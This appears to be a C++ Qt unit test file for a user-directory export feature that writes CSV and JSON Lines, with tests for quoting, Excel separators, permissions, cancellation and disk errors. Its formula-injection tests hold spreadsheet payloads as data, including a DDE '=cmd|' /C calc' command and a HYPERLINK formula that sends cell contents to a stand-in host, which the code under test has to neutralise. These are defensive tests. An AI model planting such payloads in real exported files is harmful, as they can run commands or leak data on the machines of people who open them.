// SPDX-FileCopyrightText: 2026 The UserDesk authors
// SPDX-License-Identifier: MIT

#include <algorithm>
#include <memory>

#include <QDir>
#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>

#ifdef Q_OS_LINUX
#include <csignal>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>
#endif

#include "directory/userexport.h"
#include "directory/userrecord.h"

using namespace Qt::StringLiterals;
using namespace userdesk;

using Outcome = UserExport::Outcome;

namespace {

constexpr auto before = "what was there before";

UserExport::Source table(const QList<QStringList> &rows)
{
    return {{u"Name"_s, u"Company"_s}, rows.size(), [rows](qsizetype row) { return rows[row]; }};
}

UserExport::Source manyRows(qsizetype count)
{
    return {{u"Name"_s, u"User name"_s, u"Company"_s, u"Last change"_s}, count, [](qsizetype row) {
                return QStringList{u"Işık, \"%1\""_s.arg(row), u"user%1@example.com"_s.arg(row), u"Größe & Söhne"_s,
                                   u"2026-01-02 03:04"_s};
            }};
}

/// With @p text where people type.
User wholeUser(const QString &text)
{
    User user;
    user.userId = u"3f2b8a1c"_s;
    user.firstName = text;
    user.roles = QStringList{u"ADMIN"_s, u"API_USER"_s};
    user.status = u"BLOCKED"_s;
    Account account;
    account.mobilePhoneNumber = text;
    account.subscriptionPlan = u"BASIC_MONTHLY"_s;
    account.emailVerified = true;
    account.updatedAt = u"2026-01-02T03:04:05Z"_s;
    user.account = account;
    return user;
}

QByteArray contents(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : "(no file)";
}

void putFile(const QString &path)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(before);
}

QStringList filesIn(const QString &folder)
{
    return QDir(folder).entryList(QDir::Files | QDir::Hidden | QDir::System);
}

/// What a script of Python's, which knows nothing of our writers, reads from the file, as JSON.
QByteArray readByPython(const QString &script, const QStringList &arguments)
{
    QProcess python;
    python.start(u"/usr/bin/python3"_s, QStringList{u"-I"_s, u"-c"_s, script} + arguments);
    if (!python.waitForFinished() || python.exitCode() != 0) {
        qWarning() << python.readAllStandardError();
        return {};
    }
    return python.readAllStandardOutput();
}

QList<QStringList> recordsRead(const QString &path, const QString &encoding = u"utf-8"_s)
{
    const QString script = u"import csv, json, sys\n"
                           "with open(sys.argv[1], encoding=sys.argv[2], newline='') as file:\n"
                           "    json.dump(list(csv.reader(file, strict=True)), sys.stdout)\n"_s;
    QList<QStringList> records;
    const QJsonArray read = QJsonDocument::fromJson(readByPython(script, {path, encoding})).array();
    for (const QJsonValue record : read) {
        records.append(record.toVariant().toStringList());
    }
    return records;
}

QJsonArray linesRead(const QString &path)
{
    const QString script = u"import json, sys\n"
                           "with open(sys.argv[1], encoding='utf-8', newline='\\n') as file:\n"
                           "    json.dump([json.loads(line) for line in file], sys.stdout)\n"_s;
    return QJsonDocument::fromJson(readByPython(script, {path})).array();
}

/// Runs an export to its end.
Outcome outcomeOf(UserExport &exporting)
{
    QSignalSpy finished(&exporting, &UserExport::finished);
    exporting.start();
    if (finished.isEmpty() && !finished.wait(60'000)) {
        return {Outcome::Failed, u"The export never ended."_s};
    }
    return finished.first().first().value<Outcome>();
}

Outcome outcomeOf(const UserExport::Source &source, const UserExport::Target &target)
{
    UserExport exporting(source, target);
    return outcomeOf(exporting);
}

} // namespace

class TestUserExport : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void init();

    void writesTheBytesOfTheStandard();
    void byteOrderMarkIsOptional();
    void separatorIsWhatExcelExpects_data();
    void separatorIsWhatExcelExpects();
    void anotherSeparatorKeepsTheCells();
    void onlyTheOwnerMayRead_data();
    void onlyTheOwnerMayRead();
    void cellsComeBackFromAnotherReader();
    void noCellIsAFormula_data();
    void noCellIsAFormula();
    void cellsWithoutDangerStayAsTheyAre_data();
    void cellsWithoutDangerStayAsTheyAre();
    void headerAndCellsAreGuarded();
    void unprintableCharactersAreShown();
    void hugeCellsTakeNoTime();

    void programsGetWhatTheServerSent_data();
    void programsGetWhatTheServerSent();
    void programsGetTimesWithTheirZone_data();
    void programsGetTimesWithTheirZone();
    void whatTheServerDidNotSendIsAbsent();

    void anEmptyTableIsItsHeader();
    void replacesTheFileThatWasThere();
    void tellsHowFarItIs();
    void endsOnce();
    void leavesTheProgramAlive();
    void cancelLeavesNothing();
    void cancelFromItsOwnProgress();
    void destroyedInItsOwnProgress();
    void endOfTheProgramLeavesNothing();

    void namesWhatCannotBeWritten();
    void devicesAreLeftAlone();
#ifdef Q_OS_LINUX
    void folderWithoutPermission();
    void fileWithoutPermission();
    void fileThatGrowsTooLarge();
    void fullDisk();
#endif

private:
    QString path(const QString &name = u"users.csv"_s) const
    {
        return m_folder->filePath(name);
    }

    std::unique_ptr<QTemporaryDir> m_folder;
};

void TestUserExport::init()
{
    m_folder = std::make_unique<QTemporaryDir>();
    QVERIFY(m_folder->isValid());
}

void TestUserExport::writesTheBytesOfTheStandard()
{
    const auto rows = table({{u"Ada"_s, u"a,b"_s}, {u"say \"hi\""_s, {}}, {u"two\nlines"_s, u"Ü"_s}});
    QCOMPARE(outcomeOf(rows, {path()}).kind, Outcome::Written);
    QCOMPARE(contents(path()), "Name,Company\r\nAda,\"a,b\"\r\n\"say \"\"hi\"\"\",\r\n\"two\nlines\",\xC3\x9C\r\n"_ba);
}

void TestUserExport::byteOrderMarkIsOptional()
{
    QCOMPARE(outcomeOf(table({}), {path(), true}).kind, Outcome::Written);
    QCOMPARE(contents(path()), "\xEF\xBB\xBFName,Company\r\n"_ba);
    QCOMPARE(recordsRead(path(), u"utf-8-sig"_s), (QList<QStringList>{{u"Name"_s, u"Company"_s}}));
}

void TestUserExport::separatorIsWhatExcelExpects_data()
{
    QTest::addColumn<QString>("locale");
    QTest::addColumn<QString>("ofSystem");
    QTest::addColumn<char>("separator");
    QTest::newRow("American") << u"en_US"_s << QString() << ',';
    QTest::newRow("British") << u"en_GB"_s << QString() << ',';
    QTest::newRow("Mexican") << u"es_MX"_s << QString() << ',';
    QTest::newRow("German") << u"de_DE"_s << QString() << ';';
    QTest::newRow("Turkish") << u"tr_TR"_s << QString() << ';';
    QTest::newRow("French") << u"fr_FR"_s << QString() << ';';
    QTest::newRow("Spanish") << u"es_ES"_s << QString() << ';';
    QTest::newRow("Swiss, with a point before decimals") << u"de_CH"_s << QString() << ';';
    QTest::newRow("French Swiss") << u"fr_CH"_s << QString() << ';';
    QTest::newRow("Liechtenstein") << u"de_LI"_s << QString() << ';';
    QTest::newRow("American with a semicolon of its own") << u"en_US"_s << u";"_s << ';';
    QTest::newRow("German with a comma of its own") << u"de_DE"_s << u","_s << ',';
    QTest::newRow("a separator that would break the file") << u"de_DE"_s << u"x"_s << ';';
    QTest::newRow("two characters") << u"en_US"_s << u"; "_s << ',';
}

void TestUserExport::separatorIsWhatExcelExpects()
{
    QFETCH(QString, locale);
    QFETCH(QString, ofSystem);
    QFETCH(char, separator);
    QCOMPARE(CsvWriter::separatorOfExcel(QLocale(locale), ofSystem), separator);
}

void TestUserExport::anotherSeparatorKeepsTheCells()
{
    const auto rows = table({{u"a;b"_s, u"c,d"_s}, {u"plain"_s, u"x,=1+1"_s}});
    QCOMPARE(outcomeOf(rows, {path(), false, ';'}).kind, Outcome::Written);
    QCOMPARE(contents(path()), "Name;Company\r\n\"a;b\";\"c,d\"\r\nplain;\"x,'=1+1\"\r\n"_ba);
}

void TestUserExport::onlyTheOwnerMayRead_data()
{
    QTest::addColumn<bool>("wasThere");
    QTest::newRow("new file") << false;
    QTest::newRow("in the place of one that all may read") << true;
}

void TestUserExport::onlyTheOwnerMayRead()
{
    QFETCH(bool, wasThere);
    if (wasThere) {
        putFile(path());
        QVERIFY(QFile::setPermissions(path(), QFile::Permissions(0x6644)));
    }
    QCOMPARE(outcomeOf(table({}), {path()}).kind, Outcome::Written);
    const auto others = QFile::ReadGroup | QFile::WriteGroup | QFile::ReadOther | QFile::WriteOther;
    QCOMPARE(QFile::permissions(path()) & others, QFile::Permissions());
}

void TestUserExport::cellsComeBackFromAnotherReader()
{
    const QList<QStringList> rows{
        {u"comma, \"quotes\", both"_s, u"\""_s},
        {u"\"\""_s, u","_s},
        {u"line\nfeed"_s, u"carriage\rreturn"_s},
        {u"both\r\n"_s, u"tab\there"_s},
        {{}, u" blanks "_s},
        {u"Işık İĞÜ ß"_s, u"\U0001F9D1\u200D\U0001F680 ＡＢＣ \u202Etxt.exe\u202C"_s},
        {u"e\u0301"_s, u"semi;colon"_s},
        {u"x"_s.repeated(100'000), u"\",\r\n"_s.repeated(1'000).prepend(u'x')},
    };
    QCOMPARE(outcomeOf(table(rows), {path()}).kind, Outcome::Written);
    const QList<QStringList> read = recordsRead(path());
    QCOMPARE(read.size(), rows.size() + 1);
    QCOMPARE(read.mid(1), rows);
}

void TestUserExport::noCellIsAFormula_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QString>("written");

    QTest::newRow("equals") << u"=1+1"_s << u"'=1+1"_s;
    QTest::newRow("plus") << u"+1"_s << u"'+1"_s;
    QTest::newRow("minus") << u"-1"_s << u"'-1"_s;
    QTest::newRow("at") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
    QTest::newRow("program") << u"=cmd|' /C calc'!A0"_s << u"'=cmd|' /C calc'!A0"_s;
    QTest::newRow("link") << u"=HYPERLINK(\"http://x/?\"&A1,\"x\")"_s << u"'=HYPERLINK(\"http://x/?\"&A1,\"x\")"_s;
    QTest::newRow("tab") << u"\tx"_s << u"'\tx"_s;
    QTest::newRow("carriage return") << u"\rx"_s << u"'\rx"_s;
    QTest::newRow("line feed") << u"\nx"_s << u"'\nx"_s;
    QTest::newRow("behind blanks") << u"  =1"_s << u"'  =1"_s;
    QTest::newRow("behind wide blanks") << u"\u00A0\u3000=1"_s << u"'\u00A0\u3000=1"_s;
    QTest::newRow("behind invisible") << u"\u200B\uFEFF\u202E=1"_s << u"'\u200B\uFEFF\u202E=1"_s;
    QTest::newRow("behind a quote") << u"\"=1"_s << u"'\"=1"_s;
    QTest::newRow("behind tab") << u"\t=1"_s << u"'\t'=1"_s;
    QTest::newRow("wide equals") << u"＝1"_s << u"'＝1"_s;
    QTest::newRow("wide plus") << u"＋1"_s << u"'＋1"_s;
    QTest::newRow("wide minus") << u"－1"_s << u"'－1"_s;
    QTest::newRow("wide at") << u"＠x"_s << u"'＠x"_s;
    QTest::newRow("small equals") << u"\uFE66x"_s << u"'\uFE66x"_s;
    QTest::newRow("phone") << u"+90 555 1234567"_s << u"'+90 555 1234567"_s;
    QTest::newRow("other separator") << u"a;=1"_s << u"a;'=1"_s;
    QTest::newRow("other separator, quote") << u"a; \"=1"_s << u"a; \"'=1"_s;
    QTest::newRow("other separator, twice") << u"a;-1;@x"_s << u"a;'-1;'@x"_s;
    QTest::newRow("second line") << u"a\n=1"_s << u"a\n'=1"_s;
    QTest::newRow("second column") << u"a\t+1"_s << u"a\t'+1"_s;
}

void TestUserExport::noCellIsAFormula()
{
    QFETCH(QString, cell);
    QFETCH(QString, written);
    QCOMPARE(CsvWriter::guarded(cell), written);
}

void TestUserExport::cellsWithoutDangerStayAsTheyAre_data()
{
    QTest::addColumn<QString>("cell");

    QTest::newRow("empty") << QString();
    QTest::newRow("name") << u"Jean-Luc O'Neil"_s;
    QTest::newRow("mail") << u"a+b@example.com"_s;
    QTest::newRow("list") << u"admin; support"_s;
    QTest::newRow("comma") << u"a, -b"_s;
    QTest::newRow("number") << u"0090 555"_s;
    QTest::newRow("dash") << u"—"_s;
}

void TestUserExport::cellsWithoutDangerStayAsTheyAre()
{
    QFETCH(QString, cell);
    QCOMPARE(CsvWriter::guarded(cell), cell);
    QCOMPARE(CsvWriter::printable(cell), cell);
}

void TestUserExport::headerAndCellsAreGuarded()
{
    const UserExport::Source source{{u"=A"_s, u"B"_s}, 1, [](qsizetype) {
                                        return QStringList{u"x"_s, u"=HYPERLINK(\"http://x/\",\"x\")"_s};
                                    }};
    QCOMPARE(outcomeOf(source, {path()}).kind, Outcome::Written);
    QCOMPARE(recordsRead(path()),
             (QList<QStringList>{{u"'=A"_s, u"B"_s}, {u"x"_s, u"'=HYPERLINK(\"http://x/\",\"x\")"_s}}));
}

void TestUserExport::unprintableCharactersAreShown()
{
    const QString cell = u"a\0b\x1B[31m\x7F\u0085"_s + QChar(0xD800) + u"z"_s + QChar(0xDC00);
    QCOMPARE(CsvWriter::printable(cell), u"a\uFFFDb\uFFFD[31m\uFFFD\uFFFD\uFFFDz\uFFFD"_s);
    QCOMPARE(outcomeOf(table({{cell, u"\0=1"_s}}), {path()}).kind, Outcome::Written);
    QCOMPARE(recordsRead(path()).value(1),
             (QStringList{u"a\uFFFDb\uFFFD[31m\uFFFD\uFFFD\uFFFDz\uFFFD"_s, u"\uFFFD=1"_s}));
}

void TestUserExport::hugeCellsTakeNoTime()
{
    QElapsedTimer timer;
    timer.start();
    const QString guarded = CsvWriter::guarded(u"\n;"_s.repeated(1'000'000) + u"="_s);
    QVERIFY(guarded.endsWith(u";'="_s));
    QVERIFY2(timer.elapsed() < 5'000, qPrintable(u"%1 ms"_s.arg(timer.elapsed())));
}

/// To the letter, and without what helps spreadsheets.
void TestUserExport::programsGetWhatTheServerSent_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("plain") << u"Ada"_s;
    QTest::newRow("formula") << u"=1+2"_s;
    QTest::newRow("phone number") << u"+90 555 1234567"_s;
    QTest::newRow("byte order mark") << u"\uFEFFAda"_s;
    QTest::newRow("byte order mark inside") << u"A\uFEFFda"_s;
    QTest::newRow("line break") << u"two\nlines"_s;
    QTest::newRow("line break of Windows") << u"two\r\nlines\r"_s;
    QTest::newRow("control character") << u"a\u0007b"_s;
    QTest::newRow("quotes and separators") << u"\"a\",;\t|"_s;
    QTest::newRow("blanks") << u"  a  "_s;
    QTest::newRow("other scripts") << u"Işık 王 \U0001F600"_s;
    QTest::newRow("empty") << QString();
}

void TestUserExport::programsGetWhatTheServerSent()
{
    QFETCH(QString, text);
    const User user = wholeUser(text);
    UserExport::Source source{{}, 2, {}, [user](qsizetype) { return user; }};
    QCOMPARE(outcomeOf(source, {path(), false, ',', UserExport::Format::ProgramCsv}).kind, Outcome::Written);
    const QList<QStringList> records = recordsRead(path());
    QCOMPARE(records.size(), 3);
    const auto cell = [&records](const QString &name) { return records.at(1).value(records.at(0).indexOf(name)); };
    QCOMPARE(cell(u"userId"_s), u"3f2b8a1c"_s);
    QCOMPARE(cell(u"firstName"_s), text);
    QCOMPARE(cell(u"roles"_s), u"ADMIN|API_USER"_s);
    QCOMPARE(cell(u"status"_s), u"BLOCKED"_s);
    QCOMPARE(cell(u"account.mobilePhoneNumber"_s), text);
    QCOMPARE(cell(u"account.subscriptionPlan"_s), u"BASIC_MONTHLY"_s);
    QCOMPARE(cell(u"account.emailVerified"_s), u"true"_s);
    QVERIFY(!records.at(0).contains(u"password"_s));

    QCOMPARE(outcomeOf(source, {path(u"users.jsonl"_s), false, ',', UserExport::Format::JsonLines}).kind,
             Outcome::Written);
    QVERIFY(contents(path(u"users.jsonl"_s)).endsWith("}\n"));
    const QJsonArray lines = linesRead(path(u"users.jsonl"_s));
    QCOMPARE(lines.size(), 2);
    const QJsonObject record = lines.at(1).toObject();
    QCOMPARE(record.value(u"firstName"_s).toString(), text);
    QCOMPARE(record.value(u"roles"_s).toArray(), (QJsonArray{u"ADMIN"_s, u"API_USER"_s}));
    const QJsonObject account = record.value(u"account"_s).toObject();
    QCOMPARE(account.value(u"emailVerified"_s), QJsonValue(true));
    QCOMPARE(account.value(u"updatedAt"_s).toString(), u"2026-01-02T03:04:05Z"_s);
}

void TestUserExport::programsGetTimesWithTheirZone_data()
{
    QTest::addColumn<QString>("sent");
    QTest::addColumn<QString>("written");
    QTest::newRow("UTC") << u"2026-01-02T03:04:05Z"_s << u"2026-01-02T03:04:05Z"_s;
    QTest::newRow("offset") << u"2026-01-02T03:04:05.123+03:00"_s << u"2026-01-02T03:04:05.123+03:00"_s;
    QTest::newRow("without") << u"2026-01-02T03:04:05.123456"_s << u"2026-01-02T03:04:05.123456Z"_s;
    QTest::newRow("without seconds") << u"2026-01-02T03:04"_s << u"2026-01-02T03:04Z"_s;
    QTest::newRow("no time") << u"soon"_s << u"soon"_s;
}

void TestUserExport::programsGetTimesWithTheirZone()
{
    QFETCH(QString, sent);
    User user;
    user.account = Account();
    user.account->createdAt = sent;
    QTEST(QJsonDocument::fromJson(recordLine(user))
              .object()
              .value(u"account"_s)
              .toObject()
              .value(u"createdAt"_s)
              .toString(),
          "written");
    QTEST(recordCells(user).value(recordHeader().indexOf(u"account.createdAt"_s)), "written");
}

void TestUserExport::whatTheServerDidNotSendIsAbsent()
{
    User user;
    user.userId = u"1"_s;
    QVERIFY(!QJsonDocument::fromJson(recordLine(user)).object().contains(u"account"_s));
    QCOMPARE(recordCells(user).size(), recordHeader().size());
    user.account = Account();
    const QJsonObject account = QJsonDocument::fromJson(recordLine(user)).object().value(u"account"_s).toObject();
    QVERIFY(!account.contains(u"emailVerified"_s));
    QVERIFY(!account.contains(u"company"_s));
    user.firstName = u"Ada"_s;
    const QJsonObject record = QJsonDocument::fromJson(recordLine(user)).object();
    QCOMPARE(record.value(u"firstName"_s), QJsonValue(u"Ada"_s));
    QVERIFY(!record.contains(u"midName"_s));
}

void TestUserExport::anEmptyTableIsItsHeader()
{
    QCOMPARE(outcomeOf(table({}), {path()}).kind, Outcome::Written);
    QCOMPARE(contents(path()), "Name,Company\r\n"_ba);
}

void TestUserExport::replacesTheFileThatWasThere()
{
    putFile(path());
    UserExport exporting(manyRows(50'000), {path()});
    QSignalSpy progress(&exporting, &UserExport::progress);
    connect(&exporting, &UserExport::progress, this, [this] { QCOMPARE(contents(path()), before); });
    QCOMPARE(outcomeOf(exporting).kind, Outcome::Written);
    QVERIFY(progress.size() > 1);
    QCOMPARE(recordsRead(path()).size(), 50'001);
    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
}

void TestUserExport::tellsHowFarItIs()
{
    UserExport exporting(manyRows(50'000), {path()});
    QSignalSpy progress(&exporting, &UserExport::progress);
    QCOMPARE(outcomeOf(exporting).kind, Outcome::Written);
    qint64 last = -1;
    for (const QList<QVariant> &told : std::as_const(progress)) {
        QVERIFY(told[0].toLongLong() > last);
        last = told[0].toLongLong();
        QCOMPARE(told[1].toLongLong(), 50'000);
    }
    QCOMPARE(last, 50'000);
}

void TestUserExport::endsOnce()
{
    UserExport exporting(manyRows(10), {path()});
    QSignalSpy finished(&exporting, &UserExport::finished);
    QCOMPARE(outcomeOf(exporting).kind, Outcome::Written);
    exporting.cancel();
    exporting.start();
    QCoreApplication::processEvents();
    QCOMPARE(finished.size(), 1);
    QCOMPARE(recordsRead(path()).size(), 11);
}

void TestUserExport::leavesTheProgramAlive()
{
    int turns = 0; // in which the program could have answered its user
    QTimer timer;
    connect(&timer, &QTimer::timeout, this, [&turns] { ++turns; });
    UserExport exporting(manyRows(100'000), {path()});
    timer.start(1);
    QCOMPARE(outcomeOf(exporting).kind, Outcome::Written);
    QVERIFY2(turns >= 3, qPrintable(QString::number(turns)));
}

void TestUserExport::cancelLeavesNothing()
{
    putFile(path(u"kept.csv"_s));
    for (const QString &name : {u"users.csv"_s, u"kept.csv"_s}) {
        UserExport exporting(manyRows(1'000'000), {path(name)});
        QSignalSpy finished(&exporting, &UserExport::finished);
        QSignalSpy progress(&exporting, &UserExport::progress);
        exporting.start();
        QTRY_VERIFY(progress.size() >= 3);
        exporting.cancel();
        exporting.cancel();
        QCOMPARE(finished.size(), 1);
        QCOMPARE(finished.first().first().value<Outcome>().kind, Outcome::Cancelled);
        QCOMPARE(filesIn(m_folder->path()), QStringList{u"kept.csv"_s});
        const qsizetype told = progress.size();
        QCoreApplication::processEvents();
        QCOMPARE(progress.size(), told);
    }
    QCOMPARE(contents(path(u"kept.csv"_s)), before);
}

void TestUserExport::cancelFromItsOwnProgress()
{
    UserExport exporting(manyRows(1'000), {path()});
    connect(&exporting, &UserExport::progress, &exporting, &UserExport::cancel);
    QCOMPARE(outcomeOf(exporting).kind, Outcome::Cancelled);
    QCOMPARE(filesIn(m_folder->path()), QStringList());
}

void TestUserExport::destroyedInItsOwnProgress()
{
    auto exporting = std::make_unique<UserExport>(manyRows(100'000), UserExport::Target{path()});
    connect(exporting.get(), &UserExport::progress, this, [&exporting] { exporting.reset(); });
    exporting->start();
    QTRY_VERIFY(!exporting);
    QCOMPARE(filesIn(m_folder->path()), QStringList());
}

void TestUserExport::endOfTheProgramLeavesNothing()
{
    putFile(path());
    {
        QObject program;
        auto *exporting = new UserExport(manyRows(1'000'000), {path()}, &program);
        QSignalSpy progress(exporting, &UserExport::progress);
        exporting->start();
        QTRY_VERIFY(progress.size() >= 2);
    }
    QCOMPARE(contents(path()), before);
    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
}

void TestUserExport::namesWhatCannotBeWritten()
{
    const Outcome folder = outcomeOf(manyRows(3), {m_folder->path()});
    QCOMPARE(folder.kind, Outcome::Failed);
    QCOMPARE(folder.words,
             u"%1 is a folder. Choose a name for the file."_s.arg(QDir::toNativeSeparators(m_folder->path())));

    const Outcome missing = outcomeOf(manyRows(3), {path(u"none/users.csv"_s)});
    QCOMPARE(missing.kind, Outcome::Failed);
    QCOMPARE(missing.words, u"There is no folder %1."_s.arg(QDir::toNativeSeparators(path(u"none"_s))));

    putFile(path(u"file"_s));
    const Outcome noFolder = outcomeOf(manyRows(3), {path(u"file/users.csv"_s)});
    QCOMPARE(noFolder.kind, Outcome::Failed);
    QCOMPARE(noFolder.words, u"%1 isn't a folder."_s.arg(QDir::toNativeSeparators(path(u"file"_s))));

    const Outcome longName = outcomeOf(manyRows(3), {path(u"n"_s.repeated(5'000))});
    QCOMPARE(longName.kind, Outcome::Failed);
    QVERIFY(longName.words.contains(u"can't be written"_s));
    QCOMPARE(filesIn(m_folder->path()), QStringList{u"file"_s});
}

void TestUserExport::devicesAreLeftAlone()
{
#ifdef Q_OS_LINUX
    QVERIFY(mkfifo(QFile::encodeName(path(u"pipe"_s)).constData(), 0600) == 0);
    const Outcome outcome = outcomeOf(manyRows(3), {path(u"pipe"_s)});
    QCOMPARE(outcome.kind, Outcome::Failed);
    QVERIFY(outcome.words.contains(u"isn't an ordinary file"_s));
    struct stat there { };
    QVERIFY(stat(QFile::encodeName(path(u"pipe"_s)).constData(), &there) == 0 && S_ISFIFO(there.st_mode));
#endif
}

#ifdef Q_OS_LINUX
namespace {

/// Takes the superuser's rights away for as long as it lives; other users have none to begin with.
[[nodiscard]] auto withoutRights()
{
    constexpr uid_t nobody = 65534;
    const bool wasRoot = geteuid() == 0;
    if (wasRoot && setresuid(nobody, nobody, 0) != 0) {
        qFatal("The rights can't be given up.");
    }
    return qScopeGuard([wasRoot] {
        if (wasRoot && setresuid(0, 0, 0) != 0) {
            qFatal("The rights don't come back.");
        }
    });
}

/// No file may grow beyond this many bytes while it lives.
[[nodiscard]] auto withFilesUpTo(rlim_t bytes)
{
    rlimit old{};
    getrlimit(RLIMIT_FSIZE, &old);
    const rlimit small{bytes, old.rlim_max};
    const auto handler = std::signal(SIGXFSZ, SIG_IGN);
    setrlimit(RLIMIT_FSIZE, &small);
    return qScopeGuard([old, handler] {
        setrlimit(RLIMIT_FSIZE, &old);
        std::signal(SIGXFSZ, handler);
    });
}

void setMode(const QString &path, mode_t mode)
{
    QVERIFY(chmod(QFile::encodeName(path).constData(), mode) == 0);
}

} // namespace

void TestUserExport::folderWithoutPermission()
{
    putFile(path());
    setMode(m_folder->path(), 0555);
    Outcome outcome;
    {
        const auto rights = withoutRights();
        outcome = outcomeOf(manyRows(3), {path(u"new.csv"_s)});
    }
    setMode(m_folder->path(), 0755);
    QCOMPARE(outcome.kind, Outcome::Failed);
    QCOMPARE(outcome.words, u"You don't have permission to write into the folder %1."_s.arg(m_folder->path()));
    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
}

void TestUserExport::fileWithoutPermission()
{
    putFile(path());
    setMode(path(), 0444);
    setMode(m_folder->path(), 0777);
    Outcome outcome;
    {
        const auto rights = withoutRights();
        outcome = outcomeOf(manyRows(3), {path()});
    }
    QCOMPARE(outcome.kind, Outcome::Failed);
    QCOMPARE(outcome.words, u"You don't have permission to change the file %1."_s.arg(path()));
    QCOMPARE(contents(path()), before);
    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
}

void TestUserExport::fileThatGrowsTooLarge()
{
    putFile(path());
    Outcome outcome;
    {
        const auto limit = withFilesUpTo(100'000);
        outcome = outcomeOf(manyRows(50'000), {path()});
    }
    QCOMPARE(outcome.kind, Outcome::Failed);
    QVERIFY2(outcome.words.endsWith(u"can't be written: File too large."_s), qPrintable(outcome.words));
    QCOMPARE(contents(path()), before);
    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
}

void TestUserExport::fullDisk()
{
    const QByteArray disk = QFile::encodeName(m_folder->path());
    if (mount("tmpfs", disk.constData(), "tmpfs", 0, "size=128k") != 0) {
        QSKIP("Only the superuser can make a small disk; fileThatGrowsTooLarge() is the same without one.");
    }
    const auto unmount = qScopeGuard([&disk] { umount(disk.constData()); });
    putFile(path());
    const Outcome outcome = outcomeOf(manyRows(50'000), {path()});
    QCOMPARE(outcome.kind, Outcome::Failed);
    QCOMPARE(outcome.words, u"There isn't enough space on the disk for %1."_s.arg(path()));
    QCOMPARE(contents(path()), before);
    QCOMPARE(filesIn(m_folder->path()), QStringList{u"users.csv"_s});
    QCOMPARE(outcomeOf(manyRows(100), {path()}).kind, Outcome::Written); // the space is free again
}
#endif

QTEST_GUILESS_MAIN(TestUserExport)
#include "tst_userexport.moc"
